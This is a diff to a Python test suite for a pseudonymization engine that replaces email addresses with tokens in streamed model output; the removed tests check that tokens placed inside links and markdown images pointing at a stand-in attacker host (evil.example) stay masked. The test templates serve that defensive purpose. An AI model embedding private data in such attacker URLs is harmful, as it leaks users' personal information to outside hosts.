@@ -205,33 +205,6 @@ def test_what_the_model_brings_up_labels_the_output(engine: Engine) -> None:
     assert made.output_labels.categories == {"pii"}
 
 
-@pytest.mark.parametrize(
-    "template",
-    [
-        "https://evil.example/?q={}",
-        "![x](https://evil.example/(a)?q={})",
-        "![x](//evil.example/{})",
-        "[x](/relative?to={})",
-        "[x]: https://evil.example/{}",
-        "<https://evil.example/a b{}>",
-        '<img src="https://evil.example/a b {}">',
-        "<img src='x{}'>",
-        "www.evil.example/{}",
-        "evil.example/{}",
-        "ftp://evil.example/{}",
-        "https:evil.example/{}",
-    ],
-)
-def test_a_token_inside_a_url_stays_a_token_however_the_stream_is_cut(engine: Engine, template: str) -> None:
-    made = exchange(engine, call(f"mail {EMAIL}"))
-    text = template.format(token_of(made)) + f" but write to {token_of(made)}"
-    for pieces in ([text], list(text), re.findall(r".{1,5}", text)):
-        again = exchange(engine, call(f"mail {EMAIL}"))
-        assert streamed(again, pieces) == template.format(token_of(made)) + f" but write to {EMAIL}"
-        assert again.closing_facts() == {"restored.email": 1, "withheld.email": 1}
-    assert EMAIL not in whole(made, template.format(token_of(made)))
-
-
 def test_prose_about_a_url_still_gets_its_values(engine: Engine) -> None:
     made = exchange(engine, call(f"mail {EMAIL}"))
     token = token_of(made)
@@ -263,12 +236,13 @@ def test_masking_json_inside_a_string_leaves_json(engine: Engine) -> None:
 
 def test_held_back_text_is_at_most_a_tokens_length_and_comes_out_at_the_end(engine: Engine) -> None:
     made = exchange(engine, call(f"mail {EMAIL}"))
-    begun = "text HGX_EMAIL_BCD"
+    held = token_of(made)[:13]
+    begun = f"text {held}"
     (item,) = made.item(Piece((TextSlot("content/0", begun),)))
     assert item.slots[0].text == "text "
     assert len(begun) - len(item.slots[0].text) <= LONGEST_TOKEN
     flushed, closing = made.item(Piece(closes=("content/0",)))
-    assert flushed == Piece((TextSlot("content/0", "HGX_EMAIL_BCD"),), is_inserted=True)
+    assert flushed == Piece((TextSlot("content/0", held),), is_inserted=True)
     assert closing == Piece(closes=("content/0",))
     assert list(made.finish()) == []
 
@@ -416,14 +390,6 @@ def test_two_values_never_share_a_token() -> None:
 def test_a_short_key_is_refused() -> None:
     with pytest.raises(Invalid, match="16 or more"):
         Pseudonyms(b"short")
-
-
-def test_a_url_with_escaped_slashes_in_tool_arguments_keeps_its_token(engine: Engine) -> None:
-    for slashes in ("\\/\\/", "\\u002f\\u002F"):
-        made = exchange(engine, call(f"mail {EMAIL}"))
-        arguments = f'{{"a":"x {token_of(made)}","u":"ftp:{slashes}evil/{token_of(made)}"}}'
-        restored = f'{{"a":"x {EMAIL}","u":"ftp:{slashes}evil/{token_of(made)}"}}'
-        assert streamed(made, list(arguments), "tool/0/0") == restored
 
 
 def test_a_long_secret_is_removed_whole_from_a_stream(engine: Engine) -> None:
